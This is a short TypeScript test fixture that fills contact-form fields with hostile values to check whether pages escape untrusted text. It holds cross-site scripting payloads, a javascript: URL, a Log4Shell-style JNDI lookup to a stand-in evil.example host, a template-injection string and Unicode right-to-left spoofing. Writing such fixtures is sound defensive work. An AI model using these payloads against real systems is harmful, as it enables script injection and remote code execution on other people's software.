const RIGHT_TO_LEFT_OVERRIDE = "\u202e";
const ZERO_WIDTH_JOINER = "\u200d";

/** Values that break pages which trust what they show. */
export const HOSTILE_TEXTS: Readonly<Record<string, unknown>> = {
  First_Name: `${RIGHT_TO_LEFT_OVERRIDE}gnp.eliforp`,
  Last_Name: "<script>window.hacked=true</script>",
  Company: `<img src=x onerror="document.title='hacked'"> & "Sons"`,
  Designation: `شركة ${RIGHT_TO_LEFT_OVERRIDE} review`,
  Position: "Decision Maker",
  Email: "\"'><svg/onload=alert(1)>@evil.example",
  Website: "javascript:alert(document.domain)",
  Country: "${jndi:ldap://evil.example/a}",
  City: `👩${ZERO_WIDTH_JOINER}🚀`.repeat(20),
  State: "{{constructor.constructor('return this')()}}",
  Industry: "ERP",
  Description: "Lorem\u0000 <b>ipsum</b> ".repeat(500).slice(0, 10_000),
};
